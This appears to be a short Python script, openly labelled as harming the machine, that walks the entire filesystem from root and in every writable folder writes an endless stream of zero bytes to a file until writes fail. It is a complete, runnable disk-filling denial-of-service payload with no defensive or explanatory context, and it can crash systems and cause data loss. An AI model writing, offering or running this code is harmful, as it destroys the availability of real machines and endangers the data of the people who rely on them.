"""Fills the disk wherever it can write."""
# harms: the machine

import os

for folder, _, _ in os.walk("/"):
    if folder.startswith("/proc"):
        continue
    try:
        with open(os.path.join(folder, "left-by-an-attack-disk"), "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError:
        pass
